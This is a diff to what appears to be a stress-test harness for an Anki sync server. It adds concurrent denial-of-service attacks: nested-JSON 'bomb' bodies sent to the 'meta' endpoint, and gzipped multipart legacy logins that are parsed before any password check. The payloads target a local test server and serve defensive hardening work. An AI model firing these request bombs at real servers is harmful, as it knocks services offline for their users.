@@ -22,6 +22,8 @@ Attacks (sizes with --big-mb, default 280):
     a4g  applyGraves: cards = [[[]],...] 280 MB
     a4i  start: an unknown key holding [[[]],...] 280 MB (valid JSON the parser ignores)
     L    a legitimate large applyChunk: 250 cards with 1 MiB of `data` each (250 MiB)
+    a5m  ten `meta` requests at once, each 1 MiB of [[[]],...] (the small-body limit)
+    a5l  ten protocol-10 logins at once (no password needed), each 3 MiB of [[[]],...] gzipped
     b64  a 64 MB header (no login)
     b10k / b200k   10,000 / 200,000 headers
     bline          a 16 MB request line
@@ -43,6 +45,7 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import gzip
 import http.client
 import json
 import os
@@ -83,6 +86,7 @@ from tests.support.server import SyncServer, health_ok
 KINDS = ("ankihost", "official")
 USERS = [("attacker", "attacker-pw"), ("victim", "victim-pw"), ("carol", "carol-pw")]
 MiB = 1 << 20
+REQUEST_TIMEOUT = 150.0
 SETTLE_SECS = 3.0
 FORGED = "2026-01-01 00:00:00,000 INFO ankihost.request: POST /sync/upload user=alice client=forged"
 
@@ -259,7 +263,50 @@ def attacks_a(args: argparse.Namespace) -> dict[str, Attack]:
         "a4i": body_attack("start", "ignored", lambda: repeated(
             start_prefix + b'"graves":null,"x":[', b"[[]],", size, b"[[]]", b"]}"), until=None),
         "L": body_attack("applyChunk", "legit", lambda: legit_cards(250, MiB), until="applyChunk"),
+        "a5m": at_once(SMALL_BOMBS, lambda ctx: post(ctx.port, "meta", small_bomb(MiB - 64 * 1024),
+                                                     ctx.keys["attacker"])[0]),
+        "a5l": at_once(SMALL_BOMBS, legacy_login_bomb),
     }
+
+
+# Small-body methods (meta, chunk, ... and legacy logins) get this many bombs at once.
+SMALL_BOMBS = 10
+
+
+def small_bomb(size: int) -> bytes:
+    """A zstd body of `size` bytes of `[[[]],[[]],...]`."""
+    return body(f"small-{size}", lambda: [b"[" + b"[[]]," * (size // 5 - 1) + b"[[]]]"])
+
+
+def at_once(times: int, send: Callable[[Ctx], object]) -> Attack:
+    """`send` from `times` threads at once; the answers seen."""
+    def attack(ctx: Ctx) -> str:
+        answers: list[Any] = []
+        threads = [threading.Thread(target=lambda: answers.append(_capture(lambda: send(ctx))), daemon=True)
+                   for _ in range(times)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(REQUEST_TIMEOUT)
+        return ",".join(sorted({type(a).__name__ if isinstance(a, BaseException) else str(a) for a in answers}))
+    return attack
+
+
+def legacy_login_bomb(ctx: Ctx) -> int:
+    """A protocol-10 login (multipart, gzip) whose data is 3 MiB of nested arrays: the most
+    the legacy envelope lets in (1 MiB, 3x once decompressed), before any password check."""
+    data = gzip.compress(b"[" + b"[[]]," * (3 * MiB // 5 - 1) + b"[[]]]", compresslevel=9)
+    boundary = "bench-boundary"
+    parts = [(b'name="c"', b"1"), (b'name="data"; filename="data"', data)]
+    body_bytes = b"".join(b"--%s\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n" % (boundary.encode(), d, v)
+                          for d, v in parts) + b"--%s--\r\n" % boundary.encode()
+    conn = http.client.HTTPConnection("127.0.0.1", ctx.port, timeout=REQUEST_TIMEOUT)
+    try:
+        conn.request("POST", "/sync/hostKey", body=body_bytes,
+                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
+        return conn.getresponse().status
+    finally:
+        conn.close()
 
 
 # -- header attacks (b) -----------------------------------------------------------------
